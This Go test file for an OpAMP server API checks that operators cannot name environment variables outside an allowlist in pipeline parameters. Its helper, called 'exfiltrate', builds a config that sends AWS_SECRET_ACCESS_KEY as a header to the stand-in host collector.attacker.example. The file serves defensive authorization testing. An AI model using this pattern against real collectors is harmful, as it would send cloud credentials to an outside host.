package api

import (
	"net/http"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/phoenix/platform/opamp-server/apitypes"
	"github.com/phoenix/platform/opamp-server/store"
)

// exfiltrate sends the baseline pipeline to a host the caller owns with
// a header read from the named environment variable.
func exfiltrate(variable string) map[string]any {
	return map[string]any{"pipeline": "baseline", "parameters": map[string]any{
		"destination": "otlp_http", "otlp_endpoint": "https://collector.attacker.example:4318",
		"otlp_env_headers": map[string]any{"authorization": variable},
	}}
}

// Finding: otlp_env_headers (and the other parameters naming variables)
// let an operator make every collector send any variable of its
// environment to a host of the operator's choice.
func TestOperatorEnvParamsOutsideTheAllowlistAreForbidden(t *testing.T) {
	env := newTestEnv(t, withTokens(t))
	putAgent(t, env.store, apitypes.Agent{InstanceUID: "agent-1", Labels: map[string]string{"env": "prod"}})

	for _, req := range []struct{ method, path string }{
		{http.MethodPut, "/agents/agent-1/config"},
		{http.MethodPost, "/assignments"},
	} {
		body := exfiltrate("AWS_SECRET_ACCESS_KEY")
		if req.method == http.MethodPost {
			body["selector"] = "env=prod"
		}
		e := apiError(t, env.do(t, req.method, apitypes.Prefix+req.path, body, bearer(operatorToken)...),
			http.StatusForbidden, apitypes.CodeForbidden)
		assert.Contains(t, e.Message, "needs the admin role", req.path)
		assert.Contains(t, e.Message, "parameter otlp_env_headers: names environment variable AWS_SECRET_ACCESS_KEY", req.path)
		require.Len(t, e.Details, 1, req.path)
		assert.Equal(t, "otlp_env_headers", e.Details[0].Param)
		assert.Contains(t, e.Details[0].Message, `AWS_SECRET_ACCESS_KEY (key "authorization")`)
		assert.Contains(t, e.Details[0].Message, "agent_env_allowlist does not allow")
	}
	_, err := env.store.GetAssignment(t.Context(), "agent-1")
	assert.ErrorIs(t, err, store.ErrNotFound, "nothing is stored")
	assert.Empty(t, env.pusher.calls(), "nothing is sent")

	// A variable on the server's allowlist is the operator's to name.
	asg, _ := data[apitypes.Assignment](t, env.do(t, http.MethodPut, apitypes.Prefix+"/agents/agent-1/config",
		exfiltrate("OTLP_AUTH"), bearer(operatorToken)...))
	assert.Contains(t, asg.Config, "${env:OTLP_AUTH}")

	// An admin may name any.
	asg, _ = data[apitypes.Assignment](t, env.do(t, http.MethodPut, apitypes.Prefix+"/agents/agent-1/config",
		exfiltrate("AWS_SECRET_ACCESS_KEY"), bearer(adminToken)...))
	assert.Contains(t, asg.Config, "${env:AWS_SECRET_ACCESS_KEY}")
}

// Validation says what a verbatim configuration may read by the same rule.
func TestValidationReportsVariablesOutsideTheAllowlist(t *testing.T) {
	env := newTestEnv(t, withTokens(t))
	v, _ := data[apitypes.Validated](t, env.do(t, http.MethodPost, apitypes.Prefix+"/pipelines/validate",
		map[string]any{"config": withHeader("${env:OTLP_AUTH}")}, bearer(viewerToken)...))
	assert.False(t, v.RequiresAdmin, "allowlisted")
	v, _ = data[apitypes.Validated](t, env.do(t, http.MethodPost, apitypes.Prefix+"/pipelines/validate",
		map[string]any{"config": withHeader("${env:AWS_SECRET_ACCESS_KEY}")}, bearer(viewerToken)...))
	assert.True(t, v.RequiresAdmin)
	require.Len(t, v.HostAccess, 1)
	assert.Contains(t, v.HostAccess[0].Message, "agent_env_allowlist does not allow")
}

// The catalog tells clients which parameters name variables.
func TestPipelineParamsSayWhichNameVariables(t *testing.T) {
	env := newTestEnv(t)
	p, _ := data[apitypes.Pipeline](t, env.do(t, http.MethodGet, apitypes.Prefix+"/pipelines/baseline", nil))
	var named []string
	for _, q := range p.Params {
		if q.EnvVar {
			named = append(named, q.Name)
		}
	}
	assert.ElementsMatch(t, []string{"otlp_env_headers", "newrelic_license_key_env", "telemetry_token_env"}, named)
}

func TestExperimentEnvParamsOutsideTheAllowlistAreForbidden(t *testing.T) {
	e := newExpEnv(t)
	spec := specJSON("exfiltrate")
	spec["parameters"] = exfiltrate("AWS_SECRET_ACCESS_KEY")["parameters"]
	r := e.as(t, experimenterToken, http.MethodPost, "/experiments", spec)
	got := apiError(t, r, http.StatusForbidden, apitypes.CodeForbidden)
	require.Len(t, got.Details, 1)
	assert.Equal(t, "otlp_env_headers", got.Details[0].Param)

	spec["parameters"] = exfiltrate("OTLP_AUTH")["parameters"]
	r = e.as(t, experimenterToken, http.MethodPost, "/experiments", spec)
	assert.Equal(t, http.StatusCreated, r.status, "%s", r.body)

	spec["parameters"] = exfiltrate("AWS_SECRET_ACCESS_KEY")["parameters"]
	spec["name"] = "by an admin"
	r = e.as(t, adminToken, http.MethodPost, "/experiments", spec)
	assert.Equal(t, http.StatusCreated, r.status, "%s", r.body)
}
